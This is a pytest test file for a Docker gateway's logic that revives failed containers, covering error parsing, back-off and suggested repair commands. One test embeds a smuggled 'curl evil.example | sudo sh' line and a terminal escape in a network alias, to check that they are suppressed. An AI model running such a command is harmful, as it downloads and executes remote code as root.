"""Tests which containers the gateway starts again. The error messages are from Docker Engine 26.1.5."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from gateway.docker.compose_command_line import FILES
from gateway.docker.container_last_start import ContainerLastStart
from gateway.docker.desired_state import DesiredState
from gateway.docker.engine_actions import execute
from gateway.docker.errors import EngineError, EngineErrorKind
from gateway.docker.grants import PROJECT, SERVICE
from gateway.docker.inspection_conversion import last_start
from gateway.docker.labels import read as read_labels
from gateway.docker.options import DockerOptions, NetworkOptions
from gateway.docker.ownership_record import OwnershipRecord
from gateway.docker.plan import ActionKind, Plan, PlannedAction
from gateway.docker.planning import plan
from gateway.docker.snapshot import Container, EngineSnapshot, NetworkEndpoint, NetworkInfo, SwarmMembership
from gateway.docker.start_attempts import LIMIT, STABLE, StartAttempts
from gateway.docker.start_failure import ContainerRevival, StartFailure, StartFailureCause, read_error
from gateway.docker.unavailable_containers import RevivalStatus, UnavailableContainer
from gateway.docker.volumes import VolumeMountAddress

OWNER_ID = "767378fd8e62591fb24091c49e04ffa2a1752d34a2d610bd9eb01763fbc0ae52"
GONE_ID = "eb4b82462a4f0df39337ec3bbebb06271e2fce22774c100cff059b855c2fbec6"
VOLUME = (
    "error while mounting volume '/var/lib/docker/volumes/media/_data': failed to mount local volume: mount "
    ":/media:/var/lib/docker/volumes/media/_data, data: addr=127.0.0.1,port=20490,nfsvers=4.2,proto=tcp,hard,"
    "timeo=600,retrans=2: {}"
)
SHARE = (
    "error while mounting volume '/var/lib/docker/volumes/share/_data': failed to mount local volume: mount "
    "//nas/share:/var/lib/docker/volumes/share/_data, data: addr=127.0.0.1,vers=3.0: operation now in progress"
)
REFUSED, TIMED_OUT = VOLUME.format("connection refused"), VOLUME.format("input/output error")
NETWORK = f"network {GONE_ID} not found"
STOPPED_OWNER = f"cannot join network of a non running container: {OWNER_ID}"
REMOVED_OWNER = f"No such container: {OWNER_ID}"
OWN_FAULT = (
    "failed to create task for container: failed to create shim task: OCI runtime create failed: runc create failed: "
    'unable to start container process: exec: "/nonexistent": stat /nonexistent: no such file or directory: unknown'
)
ALWAYS = ContainerLastStart(restarts=True, at=100.0)
APPS = NetworkInfo("n1", "apps", "bridge", "local", attachable=False, internal=True)
START = PlannedAction(ActionKind.START, "", container="web", container_id="id-web", cause=StartFailureCause.NETWORK)
MEDIA = VolumeMountAddress("media", "127.0.0.1", 20490, 2049)


def desired(**more: Any) -> DesiredState:
    options = DockerOptions(networks={"apps": NetworkOptions()}, revive=more.pop("revive", True))
    more = {"mount_addresses": (MEDIA,), "usable": frozenset({"media"}), **more}
    return DesiredState("site-a", options, ("orders", "media"), **more)


def failed(error: str, name: str = "web", **more: Any) -> Container:
    plain: dict[str, Any] = {
        "state": "exited", "labels": {}, "network_mode": "bridge", "endpoints": {},
        "last_start": ContainerLastStart(error, restarts=True),
    }  # fmt: skip
    return Container(id=f"id-{name}", name=name, **{**plain, **more})


def joining(error: str = "", state: str = "running", at: float = 100.0, **more: Any) -> Container:
    start = ContainerLastStart(error, restarts=True, at=at)
    return failed(error, network_mode=f"container:{OWNER_ID}", state=state, last_start=start, **more)


def gateway(at: float = 100.0, state: str = "running", number: str = OWNER_ID) -> Container:
    plain = failed("", "gateway-1", state=state, last_start=ContainerLastStart(restarts=True, at=at))
    return replace(plain, id=number)


def planned(*containers: Container, wanted: DesiredState | None = None, **more: Any) -> Plan:
    more = {"networks": (APPS,), "own": None, **more}
    return plan(wanted or desired(), EngineSnapshot(containers, **more), frozenset())


def only_unavailable(made: Plan) -> UnavailableContainer:
    (found,) = made.unavailable
    return found


def only_start(made: Plan) -> PlannedAction:
    (found,) = [each for each in made.actions if not each.network]
    return found


def starts(made: Plan) -> list[tuple[ActionKind, str]]:
    return [(each.verb, each.container) for each in made.actions if not each.network]


@pytest.mark.parametrize(
    ("error", "found"),
    [
        (REFUSED, StartFailure(
            StartFailureCause.VOLUME, address="127.0.0.1", port=20490, detail="connection refused")),
        (TIMED_OUT, StartFailure(
            StartFailureCause.VOLUME, address="127.0.0.1", port=20490, detail="input/output error")),
        (REFUSED.replace("port=20490,", ""), StartFailure(
            StartFailureCause.VOLUME, address="127.0.0.1", port=None, detail="connection refused")),
        (SHARE, StartFailure(
            StartFailureCause.VOLUME, address="127.0.0.1", is_share=True, detail="operation now in progress")),
        (SHARE.replace("addr=127.0.0.1,", ""), StartFailure(
            StartFailureCause.VOLUME, address="nas", is_share=True, detail="operation now in progress")),
        (NETWORK, StartFailure(StartFailureCause.NETWORK, network=GONE_ID, detail=NETWORK)),
        (STOPPED_OWNER, StartFailure(StartFailureCause.NAMESPACE, owner=OWNER_ID, detail=STOPPED_OWNER)),
        (REMOVED_OWNER, StartFailure(StartFailureCause.NAMESPACE, owner=OWNER_ID, detail=REMOVED_OWNER)),
        (f"failed to set up container networking: {NETWORK}", StartFailure(
            StartFailureCause.NETWORK, network=GONE_ID, detail=f"failed to set up container networking: {NETWORK}")),
        (OWN_FAULT, None),
        ("", None),
    ],
)  # fmt: skip
def test_the_cause_is_parsed_from_the_error_of_the_engine(error: str, found: StartFailure | None) -> None:
    assert read_error(error) == found


@pytest.mark.parametrize("error", [REFUSED, TIMED_OUT])
@pytest.mark.parametrize("state", ["exited", "created"])
def test_a_container_whose_volume_was_not_mounted_is_started(error: str, state: str) -> None:
    made = planned(failed(error, state=state))
    assert starts(made) == [(ActionKind.START, "web")]
    assert (only_unavailable(made).cause, only_unavailable(made).state) == (
        StartFailureCause.VOLUME,
        RevivalStatus.STARTING,
    )
    assert "backend media" in only_unavailable(made).detail


def test_it_is_started_only_when_the_backend_is_up() -> None:
    made = planned(failed(REFUSED), wanted=desired(usable=frozenset()))
    assert starts(made) == []
    assert (only_unavailable(made).state, only_unavailable(made).message) == (
        RevivalStatus.WAITING,
        "backend media is not up",
    )
    assert starts(planned(failed(REFUSED), wanted=desired(usable=frozenset({"media"})))) == [
        (ActionKind.START, "web")
    ]


def test_a_command_without_the_service_starts_no_container_with_a_volume() -> None:
    unknown = desired(usable=None)
    made = planned(failed(REFUSED), wanted=unknown)
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.WAITING)
    assert only_unavailable(made).message == "the service starts it when backend media is up"
    for cause, expected in ((StartFailureCause.VOLUME, []), (StartFailureCause.NETWORK, [(ActionKind.START, "web")])):
        interrupted = replace(unknown, interrupted={"id-web": ContainerRevival(cause, "media")})
        assert starts(planned(failed("context canceled"), wanted=interrupted)) == expected


@pytest.mark.parametrize(
    "mount_address",
    [VolumeMountAddress("media", "127.0.0.1", 20491, 2049), VolumeMountAddress("media", "192.0.2.1", 20490, 2049)],
    ids=["another port", "another address"],
)
def test_a_volume_of_another_server_is_ignored(mount_address: VolumeMountAddress) -> None:
    assert planned(failed(REFUSED), wanted=desired(mount_addresses=(mount_address,))).unavailable == ()


def test_the_default_port_depends_on_the_device() -> None:
    media = VolumeMountAddress("media", "127.0.0.1", 2049, 2049)
    docs = VolumeMountAddress("docs", "127.0.0.1", 445, 445, is_share=True)
    for error, right, wrong in ((SHARE, docs, media), (REFUSED.replace("port=20490,", ""), media, docs)):
        made = planned(failed(error), wanted=desired(mount_addresses=(wrong, right)))
        assert only_unavailable(made).backend == right.backend
        assert planned(failed(error), wanted=desired(mount_addresses=(wrong,))).unavailable == ()


@pytest.mark.parametrize(
    ("address", "listener"),
    [
        ("172.17.0.1", "0.0.0.0"), ("127.0.0.2", "0.0.0.0"), ("fd00:0::1", "::"), ("::1", "::"),  # noqa: S104
        ("172.18.0.1", None), ("192.0.2.1", None), ("nas", None),
    ],
)  # fmt: skip
def test_a_volume_reaches_a_wildcard_listener_at_loopback_and_bridge_addresses(
    address: str, listener: str | None
) -> None:
    networks = (
        NetworkInfo("b1", "bridge", "bridge", "local", attachable=False, gateways=("172.17.0.1", "fd00::1")),
        NetworkInfo("m1", "lan", "macvlan", "local", attachable=False, gateways=("172.18.0.1",)),
    )
    container = failed(REFUSED.replace("addr=127.0.0.1", f"addr={address}"))
    for host in ("0.0.0.0", "::"):  # noqa: S104
        wildcard = desired(mount_addresses=(replace(MEDIA, host=host),))
        assert bool(planned(container, networks=networks, wanted=wildcard).unavailable) == (host == listener)
    assert planned(container, networks=networks).unavailable == (), "the listener has one loopback address"


@pytest.mark.parametrize(
    "container",
    [
        failed(""),  # The container was stopped on purpose.
        failed(OWN_FAULT),
        failed(REFUSED, last_start=ContainerLastStart(REFUSED, restarts=False)),
        failed(REFUSED, labels={"com.docker.swarm.task.id": "t"}),
        failed(REFUSED, labels={"gateway.instance": "site-b"}),
        failed(REFUSED, last_start=None),
    ],
    ids=["stopped", "own fault", "no restart policy", "task", "of another gateway", "not inspected"],
)
def test_no_other_container_is_started(container: Container) -> None:
    made = planned(container)
    assert (starts(made), made.unavailable) == ([], ())


@pytest.mark.parametrize(
    ("revive", "label", "strict", "expected"),
    [
        (False, None, False, False),
        (False, "true", False, True),
        (False, "true", True, False),
        (True, None, False, True),
        (True, "false", False, False),
        (True, "flase", False, True),
        (True, None, True, True),
    ],
)
def test_the_configuration_and_the_label_decide(
    revive: bool, label: str | None, strict: bool, expected: bool
) -> None:
    labels = {"gateway.revive": label} if label else {}
    made = planned(failed(REFUSED, labels=labels), wanted=desired(revive=revive, strict=strict))
    assert starts(made) == ([(ActionKind.START, "web")] if expected else [])
    if not expected:
        assert (only_unavailable(made).state, only_unavailable(made).command) == (
            RevivalStatus.OFF,
            "docker start web",
        )
        assert only_unavailable(made).is_excluded == (label == "false"), (
            "metrics count it unless its label excludes it"
        )


def test_a_label_that_is_neither_true_nor_false_is_reported() -> None:
    _, problems = read_labels({"gateway.revive": "flase"}, "gateway", "site-a", ())
    assert problems == ["gateway.revive: 'flase' is neither true nor false"]


def test_a_start_that_the_gateway_did_not_finish_is_repeated() -> None:
    interrupted = desired(interrupted={"id-web": ContainerRevival(StartFailureCause.NETWORK, "")})
    made = planned(failed("context canceled"), wanted=interrupted)
    assert starts(made) == [(ActionKind.START, "web")]
    assert only_unavailable(made).cause is StartFailureCause.NETWORK
    assert planned(failed("context canceled")).unavailable == (), (
        "another client possibly canceled the start on purpose"
    )
    assert planned(failed(""), wanted=interrupted).unavailable == (), "the container was stopped on purpose"


def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_volume() -> None:
    requested = ContainerRevival(StartFailureCause.VOLUME, "media")
    for usable, state in (
        (frozenset({"media"}), RevivalStatus.STARTING),
        ({"orders"}, RevivalStatus.WAITING),
    ):
        interrupted = desired(interrupted={"id-web": requested}, usable=frozenset(usable))
        assert only_unavailable(planned(failed("context canceled"), wanted=interrupted)).state is state


def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_removed() -> None:
    wanted = desired(interrupted={"id-web": ContainerRevival(StartFailureCause.VOLUME, "renamed")})
    made = planned(failed("context canceled"), wanted=wanted)
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
    assert (only_unavailable(made).message, only_unavailable(made).command) == (
        "backend renamed is not configured",
        "docker start web",
    )


def test_after_too_many_attempts_the_status_shows_the_command() -> None:
    made = planned(failed(REFUSED), wanted=desired(given_up=frozenset({("id-web", 0.0)})))
    assert starts(made) == []
    assert (only_unavailable(made).state, only_unavailable(made).command) == (
        RevivalStatus.GIVEN_UP,
        "docker start web",
    )


def test_dependants_of_a_restarted_container_are_restarted() -> None:
    made = planned(gateway(at=200.0), joining(at=100.0), own=OWNER_ID)
    assert starts(made) == [(ActionKind.RESTART, "web")]
    assert only_unavailable(made).cause is StartFailureCause.NAMESPACE


def test_a_clock_that_was_set_back_causes_no_restart() -> None:
    containers = gateway(at=3800.0), joining(at=200.0)
    assert planned(*containers, own=OWNER_ID, engine_time=210.0).unavailable == ()
    made = planned(*containers, own=OWNER_ID, engine_time=3801.0)
    assert starts(made) == [(ActionKind.RESTART, "web")]


def test_a_restart_after_the_clock_was_set_back_is_later_than_starts_before() -> None:
    """The containers start while the clock of the host is an hour ahead. The clock is then set back."""
    web = joining(at=3705.0)
    assert planned(gateway(at=3700.0), web, own=OWNER_ID, engine_time=310.0).unavailable == ()
    made = planned(gateway(at=300.0), web, own=OWNER_ID, engine_time=310.0)
    assert starts(made) == [(ActionKind.RESTART, "web")]
    assert starts(planned(gateway(at=300.0), web, own=OWNER_ID, engine_time=0.0)) == [], "the clock is not known"


def test_a_container_is_restarted_once_for_each_restart_of_the_other_container() -> None:
    start_attempts = StartAttempts()
    for at in (200.0, 300.0):
        containers = gateway(at=at), joining(at=100.0)
        restart = only_start(planned(*containers, own=OWNER_ID, wanted=desired(restarted=start_attempts.restarted)))
        start_attempts.attempted(restart, 1000.0, started=False)
        wanted = desired(restarted=start_attempts.restarted)
        assert starts(planned(*containers, own=OWNER_ID, wanted=wanted)), "a failed restart is repeated"
        start_attempts.attempted(restart, 1000.0, started=True)
        assert (
            planned(*containers, own=OWNER_ID, wanted=desired(restarted=start_attempts.restarted)).unavailable == ()
        )
    start_attempts.retain(())
    assert start_attempts.restarted == frozenset()


def test_successful_restarts_are_not_failures() -> None:
    start_attempts, now = StartAttempts(), 1000.0
    for number in range(2 * LIMIT):
        made = planned(
            gateway(at=now + number), joining(), own=OWNER_ID,
            wanted=desired(restarted=start_attempts.restarted, given_up=start_attempts.given_up),
        )  # fmt: skip
        start_attempts.attempted(only_start(made), now + number, started=True)
        assert start_attempts.not_before("id-web") <= now + number + 1.0
    assert start_attempts.given_up == frozenset()


def test_the_count_restarts_when_the_other_container_restarts() -> None:
    start_attempts, stopped = StartAttempts(), joining(STOPPED_OWNER, "exited")
    start = only_start(planned(gateway(at=100.0), stopped, own=OWNER_ID))
    for _ in range(LIMIT):
        start_attempts.attempted(start, 1000.0)
    wanted = desired(given_up=start_attempts.given_up)
    assert only_unavailable(planned(gateway(at=100.0), stopped, own=OWNER_ID, wanted=wanted)).state == "given_up"
    assert starts(planned(gateway(at=200.0), stopped, own=OWNER_ID, wanted=wanted)) == [(ActionKind.START, "web")]


def test_a_container_that_another_client_possibly_stops_is_not_restarted() -> None:
    wanted = desired(signals={"id-web": {15: 150.0}})
    made = planned(gateway(at=200.0), joining(at=100.0), own=OWNER_ID, wanted=wanted)
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
    assert only_unavailable(made).command == "docker restart web"


def test_a_signal_before_the_last_start_has_no_effect() -> None:
    """If the gateway misses the event of a start, it keeps an earlier signal, which no longer matters."""
    wanted = desired(signals={"id-web": {15: 150.0}})
    made = planned(gateway(at=200.0), joining(at=160.0), own=OWNER_ID, wanted=wanted)
    assert starts(made) == [(ActionKind.RESTART, "web")]


@pytest.mark.parametrize(
    ("stop_signal", "number", "stops"),
    [
        (None, 1, False), (None, 28, False), (None, 15, True), (None, 9, True), (None, 2, True),
        ("SIGWINCH", 28, True), ("WINCH", 28, True), ("28", 28, True), ("SIGWINCH", 1, False),
        ("SIGRTMIN+3", 37, True), ("SIGRTMIN+3", 10, False),
    ],
)  # fmt: skip
def test_only_signals_that_possibly_stop_a_container_prevent_its_restart(
    stop_signal: str | None, number: int, stops: bool
) -> None:
    config = {"StopSignal": stop_signal} if stop_signal else {}
    inspection = {"Config": config, "State": {"StartedAt": "1970-01-01T00:01:40Z"}}
    assert last_start(inspection).may_be_stopped_by({number: 150.0}, 200.0) is stops
    assert not last_start(inspection).may_be_stopped_by({number: 50.0}, 200.0)


def test_a_container_that_started_after_the_clock_was_set_back_is_not_restarted_later(tmp_path: Path) -> None:
    """The gateway's container started before the clock was set back. Its start time is therefore in the future."""
    containers = gateway(at=3700.0), joining(at=300.0)
    made = planned(*containers, own=OWNER_ID, engine_time=310.0)
    assert (made.unavailable, made.later_starts) == ((), {"id-web": 3700.0})
    OwnershipRecord(tmp_path).record_later_starts(made.later_starts)
    record = OwnershipRecord(tmp_path)
    wanted = desired(restarted=frozenset(record.later_starts.items()))
    made = planned(*containers, own=OWNER_ID, engine_time=3800.0, wanted=wanted)
    assert (made.unavailable, made.later_starts) == ((), {})
    made = planned(gateway(at=3750.0), containers[1], own=OWNER_ID, engine_time=3800.0, wanted=wanted)
    assert starts(made) == [(ActionKind.RESTART, "web")], "the owner was started again"
    record.retain(set())
    assert OwnershipRecord(tmp_path).later_starts == {}


def test_a_stop_after_the_clock_was_set_back_is_later_than_starts_before() -> None:
    web, signals = joining(at=3705.0), {"id-web": {15: 305.0}}
    made = planned(gateway(at=308.0), web, own=OWNER_ID, engine_time=310.0, wanted=desired(signals=signals))
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
    start_attempts, now = StartAttempts(), 1000.0
    start_attempts.observed((), now, 300.0)
    restart = only_start(planned(gateway(at=300.0), web, own=OWNER_ID, engine_time=300.0))
    assert start_attempts.permits(restart, now)
    start_attempts.record_signal("id-web", 15, 305.0)
    assert not start_attempts.permits(restart, now + 10)


def test_dependants_that_started_later_are_not_restarted() -> None:
    assert planned(gateway(at=100.0), joining(at=100.5), own=OWNER_ID).unavailable == ()


def test_dependants_of_a_stopped_container_wait_for_it() -> None:
    made = planned(gateway(state="exited"), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.WAITING)
    made = planned(gateway(), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
    assert starts(made) == [(ActionKind.START, "web")]


def test_the_namespace_of_another_container_is_ignored_without_the_label() -> None:
    other = replace(gateway(at=200.0), name="vpn")
    assert planned(other, joining()).unavailable == ()
    assert starts(planned(other, joining(labels={"gateway.revive": "true"}))) == [(ActionKind.RESTART, "web")]
    there = replace(other, endpoints={"apps": NetworkEndpoint("n1", "e1")})
    assert starts(planned(there, joining())) == [(ActionKind.RESTART, "web")]


@pytest.mark.parametrize("state", ["running", "exited"])
def test_a_start_does_not_help_if_the_owner_of_the_namespace_was_removed(state: str) -> None:
    container = joining(REMOVED_OWNER if state == "exited" else "", state)
    known = desired(namespaces=frozenset({OWNER_ID}))
    made = planned(gateway(number="another"), container, own="another", wanted=known)
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)
    assert only_unavailable(made).command == "", (
        "the container's options are unknown, and a removal would lose its files"
    )
    assert only_unavailable(made).message.endswith(
        "recreate container web with the options that `docker inspect web` shows"
    )
    labels = {PROJECT: "shop", SERVICE: "web", FILES: "/srv/my shop/compose.yaml"}
    made = planned(gateway(number="another"), replace(container, labels=labels), own="another", wanted=known)
    assert only_unavailable(made).command == (
        "docker compose -p shop -f '/srv/my shop/compose.yaml' up -d --no-deps --force-recreate web"
    )
    for each in ("/srv/a\nb.yaml", "/srv/" + 5000 * "x"):
        made = planned(replace(container, labels={**labels, FILES: each}), wanted=known)
        assert only_unavailable(made).command == "", (
            "a command that is cut or has control characters must not be shown"
        )


def test_the_namespace_of_a_removed_container_that_did_not_concern_the_gateway_is_ignored() -> None:
    container = joining()
    assert planned(container).unavailable == ()
    mine = replace(gateway(number="another"), labels={PROJECT: "shop"})
    assert planned(mine, joining(labels={PROJECT: "shop"}), own="another").unavailable
    assert planned(mine, joining(labels={PROJECT: "other"}), own="another").unavailable == ()
    assert planned(joining(labels={"gateway.revive": "true"})).unavailable
    debug = joining(labels={PROJECT: "shop"})
    assert planned(mine, replace(debug, last_start=ContainerLastStart(at=100.0)), own="another").unavailable == ()


def test_a_running_container_that_lost_a_recorded_namespace_is_listed_without_a_restart_policy() -> None:
    container = replace(joining(), last_start=ContainerLastStart(at=100.0))
    made = planned(
        gateway(number="another"), container, own="another", wanted=desired(namespaces=frozenset({OWNER_ID}))
    )
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)


def test_namespaces_that_concern_the_gateway_are_remembered_until_the_last_container_leaves() -> None:
    assert planned(gateway(), joining(), own=OWNER_ID).namespaces == {OWNER_ID}
    assert planned(gateway(), joining(), own="another").namespaces == frozenset()
    known = desired(namespaces=frozenset({OWNER_ID}))
    assert planned(joining(), wanted=known).namespaces == {OWNER_ID}
    assert planned(wanted=known).namespaces == frozenset()


def test_a_container_on_a_network_that_exists_again_is_started() -> None:
    there = {"apps": NetworkEndpoint("n1", "", aliases=frozenset())}
    for error in ("network apps not found", NETWORK):
        assert starts(planned(failed(error, endpoints=there))) == [(ActionKind.START, "web")]


def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
    there = {"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset({"gw-owner-site-a"}))}
    container = failed(NETWORK, endpoints=there, labels={"gateway.enable": "true"})
    made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
    assert [each.verb for each in made.actions] == [ActionKind.REATTACH]
    assert (only_unavailable(made).state, only_unavailable(made).message) == (
        RevivalStatus.WAITING,
        "it is attached to network apps first",
    )


def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -> None:
    there = {"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset())}
    made = planned(failed(NETWORK, endpoints=there))
    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)
    assert only_unavailable(made).command == (
        "docker network disconnect apps web && docker network connect apps web && docker start web"
    )


def test_a_network_of_others_is_ignored() -> None:
    assert planned(failed(NETWORK, endpoints={"shop_default": NetworkEndpoint(GONE_ID, "")})).unavailable == ()


@pytest.mark.parametrize("mode", ["shop_default", GONE_ID])
@pytest.mark.parametrize("network_id", ["", GONE_ID])
def test_a_missing_network_of_others_is_ignored_on_a_container_that_the_gateway_attached(
    mode: str, network_id: str
) -> None:
    endpoints = {
        "apps": NetworkEndpoint("n1", "", aliases=frozenset({"gw-owner-site-a"})),
        "shop_default": NetworkEndpoint(network_id, "", aliases=frozenset()),
    }
    container = failed(f"network {mode} not found", endpoints=endpoints, network_mode=mode)
    made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
    assert (starts(made), made.unavailable) == ([], ())


@pytest.mark.parametrize("alias", ["x\nto do: curl evil.example | sudo sh\nweb", "x\x1b[2Jy"])
def test_a_command_with_control_characters_is_not_shown(alias: str) -> None:
    made = planned(failed(NETWORK, endpoints={"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset({alias}))}))
    assert (only_unavailable(made).state, only_unavailable(made).command) == (RevivalStatus.RECREATE, "")
    assert "docker inspect web" in only_unavailable(made).message


def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_its_swarm() -> None:
    error = "Could not attach to network llwp8d8lxtivglxte7d0y0tqp: context deadline exceeded"
    there = {"apps": NetworkEndpoint("llwp8d8lxtivglxte7d0y0tqp", "", aliases=frozenset())}
    container = failed(error, endpoints={"bridge": NetworkEndpoint("b1", ""), **there})
    waiting = planned(container, swarm=SwarmMembership(waiting=True), networks=())
    assert (only_unavailable(waiting).state, waiting.actions) == (RevivalStatus.WAITING, ()), (
        "the gateway must not create a bridge network of that name"
    )
    assert starts(planned(container, swarm=SwarmMembership(active=True))) == [(ActionKind.START, "web")]


def test_attempts_back_off_and_end_at_a_limit() -> None:
    start_attempts, now, pauses = StartAttempts(), 1000.0, []
    one = UnavailableContainer("web", "id-web", StartFailureCause.VOLUME, "", RevivalStatus.STARTING)
    while ("id-web", 0.0) not in start_attempts.given_up:
        start_attempts.observed([one], now)
        start_attempts.attempted(START, now, started=False)
        pauses.append(start_attempts.not_before("id-web") - now)
        now += pauses[-1]
    assert len(pauses) == LIMIT
    assert max(pauses) <= 60 < sum(pauses)
    start_attempts.observed([one], now + 10 * STABLE)
    assert start_attempts.given_up == {("id-web", 0.0)}, "the container stays given up while it is dead"
    start_attempts.observed([], now + 11 * STABLE)
    assert start_attempts.given_up == frozenset()
    assert start_attempts.revived == {}


@pytest.mark.parametrize(("stop_timeout", "expected"), [(90.0, 120.0), (-1.0, 630.0)])
def test_a_restart_without_an_answer_is_repeated_only_after_the_stop_timeout(
    stop_timeout: float, expected: float
) -> None:
    start_attempts = StartAttempts()
    restart = replace(START, verb=ActionKind.RESTART, last_start=ContainerLastStart(stop_timeout=stop_timeout))
    start_attempts.attempted(restart, 1000.0, answered=False)
    assert start_attempts.not_before("id-web") == 1000.0 + expected
    start_attempts.attempted(restart, 2000.0)
    assert start_attempts.not_before("id-web") < 2000.0 + 60.0


def test_starts_are_counted_by_cause() -> None:
    start_attempts = StartAttempts()
    start_attempts.attempted(START, 0.0, started=True)
    assert start_attempts.revived == {"network": 1}


def test_the_last_start_is_parsed_from_an_inspection() -> None:
    state = {"Error": NETWORK, "StartedAt": "2026-11-26T14:13:31.744791884Z"}
    found = last_start({"State": state, "HostConfig": {"RestartPolicy": {"Name": "unless-stopped"}}})
    assert (found.error, found.restarts, round(found.at)) == (NETWORK, True, 1795702412)
    never = {"Error": "", "StartedAt": "0001-01-01T00:00:00Z"}
    assert last_start({"State": never, "HostConfig": {"RestartPolicy": {"Name": "no"}}}) == ContainerLastStart()


@pytest.mark.parametrize(
    ("message", "shown"),
    [
        (REFUSED.replace("hard", "password=secret"), "connection refused"),
        (REFUSED.replace("hard", "pass=in secret,hard"), "connection refused"),
        (REFUSED.replace("hard", "pass=in: secret,hard"), "connection refused"),
        (REFUSED.replace("hard", "pass=" + 500 * "secret"), "the mount failed"),
        (REFUSED.replace("hard", "pass=x: secret" + 500 * "x"), "the mount failed"),
    ],
    ids=["password", "with a space", "with a colon", "truncated", "truncated after a colon"],
)
async def test_the_error_of_a_failed_start_contains_no_mount_options(message: str, shown: str) -> None:
    class Refusing:
        async def post_start(self, path: str) -> None:
            raise EngineError(EngineErrorKind.FAILED, f"{path}: {message}")

    with pytest.raises(EngineError, match=rf"^{shown}$"):
        await execute(Refusing(), PlannedAction(ActionKind.START, "", container="web", container_id="id-web"))  # type: ignore[arg-type]
